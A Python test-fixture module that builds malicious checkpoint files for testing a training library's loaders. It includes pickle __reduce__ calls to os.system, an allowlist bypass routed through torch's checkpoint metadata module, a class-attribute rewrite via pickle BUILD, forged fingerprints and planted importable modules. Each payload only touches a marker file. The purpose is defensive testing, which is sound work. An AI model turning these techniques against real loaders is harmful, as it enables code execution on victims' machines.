"""Files an attacker would craft to run code when llm_gym reads them: each tries to create a marker file.

Used by the bad-input corpus (through the CLI) and by the unit tests of the loaders.
"""

import dataclasses
import io
import json
import os
import pickle
import shlex
import zlib
from pathlib import Path

import torch
from torch.distributed.checkpoint.metadata import Metadata

DCP_METADATA_MODULE = "torch.distributed.checkpoint.metadata"


class RunsCode:
    """Unpickled, runs ``touch marker``."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {shlex.quote(str(self.marker))}",))


class _ThroughMetadataModule(pickle._Pickler):
    """Names ``os.system`` as ``os.system`` of DCP's metadata module, which imports ``os``: a name an allowlist of
    modules lets through, and that pickle protocol 4 resolves through the module's attributes."""

    def save_global(self, obj, name=None):
        if obj is not os.system:
            return super().save_global(obj, name)
        self.save(DCP_METADATA_MODULE)
        self.save("os.system")
        self.write(pickle.STACK_GLOBAL)
        self.memoize(obj)
        return None


def _pickle_through_metadata_module(obj) -> bytes:
    buffer = io.BytesIO()
    _ThroughMetadataModule(buffer, protocol=4).dump(obj)
    return buffer.getvalue()


def metadata_running_code(marker: Path) -> bytes:
    """A ``.metadata`` that is nothing but the call: the load fails, but only after it ran."""
    return _pickle_through_metadata_module(RunsCode(marker))


def metadata_hiding_code(checkpoint: Path, marker: Path) -> bytes:
    """The checkpoint's own ``.metadata`` with the call hidden in it: everything else loads as before."""
    with (checkpoint / ".metadata").open("rb") as file:
        metadata = pickle.load(file)  # a file this test suite wrote itself
    return _pickle_through_metadata_module(dataclasses.replace(metadata, planner_data=RunsCode(marker)))


def _text(text: str) -> bytes:
    encoded = text.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(encoded)]) + encoded


def _global(module: str, name: str) -> bytes:
    """Opcodes pushing the object ``name`` of ``module``; protocol 4 resolves a dotted ``name`` attribute by
    attribute."""
    return _text(module) + _text(name) + pickle.STACK_GLOBAL


def pickle_of_global(module: str, name: str) -> bytes:
    return pickle.PROTO + b"\x04" + _global(module, name) + pickle.STOP


def metadata_rewriting_a_class() -> bytes:
    """A ``.metadata`` that sets an attribute of the class ``PosixPath`` (pickle's BUILD applied to a class, not
    an instance): with the C unpickler, every path of the process would then read as the attacker's."""
    state = pickle.NONE + pickle.EMPTY_DICT + _text("_str") + _text("/tmp/attacker") + pickle.SETITEM + pickle.TUPLE2
    return pickle.PROTO + b"\x04" + _global("pathlib", "PosixPath") + state + pickle.BUILD + pickle.STOP


def torch_save_running_code(marker: Path) -> bytes:
    """A ``torch.save`` file whose unpickling runs the call (as a ``.pt`` file or a DCP value)."""
    buffer = io.BytesIO()
    torch.save({"weight": RunsCode(marker)}, buffer)
    return buffer.getvalue()


def forge(checkpoint: Path, name: str, content: bytes) -> None:
    """Replace a file and its recorded fingerprint in ``llm_gym_meta.json``, as a deliberate forgery would."""
    (checkpoint / name).write_bytes(content)
    meta_path = checkpoint / "llm_gym_meta.json"
    meta = json.loads(meta_path.read_text())
    meta["files"][name] = {"bytes": len(content), "crc32": zlib.crc32(content)}
    meta_path.write_text(json.dumps(meta))


def forge_stored_value(checkpoint: Path, key_prefix: str, content: bytes) -> str:
    """Point the first DCP entry whose key starts with ``key_prefix`` at ``content`` (appended to its shard file),
    with ``.metadata`` and the fingerprints rewritten to match. Returns the entry's key."""
    with (checkpoint / ".metadata").open("rb") as file:
        metadata: Metadata = pickle.load(file)  # a file this test suite wrote itself
    index = next(index for index in sorted(metadata.storage_data, key=str) if index.fqn.startswith(key_prefix))
    info = metadata.storage_data[index]
    shard = checkpoint / info.relative_path
    offset = shard.stat().st_size
    forge(checkpoint, info.relative_path, shard.read_bytes() + content)
    metadata.storage_data[index] = dataclasses.replace(info, offset=offset, length=len(content))
    forge(checkpoint, ".metadata", pickle.dumps(metadata))
    return index.fqn


PLANTED_MODULE = "planted_components"


def record_planted_module(checkpoint: Path, marker: Path, model_type_hint: str | None = None) -> None:
    """The checkpoint's saved config lists ``PLANTED_MODULE`` under ``user_modules``, a module placed beside the
    checkpoint, in its experiment directory and in the current directory that would create ``marker`` if
    imported; with ``model_type_hint``, also a model type that only such a module could register."""
    for directory in (checkpoint, checkpoint.parent.parent, Path.cwd()):
        (directory / f"{PLANTED_MODULE}.py").write_text(f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n")
    meta_path = checkpoint / "llm_gym_meta.json"
    meta = json.loads(meta_path.read_text())
    meta["resolved_config"]["user_modules"] = [PLANTED_MODULE]
    if model_type_hint is not None:
        meta["resolved_config"]["model"]["type_hint"] = model_type_hint
    meta_path.write_text(json.dumps(meta))
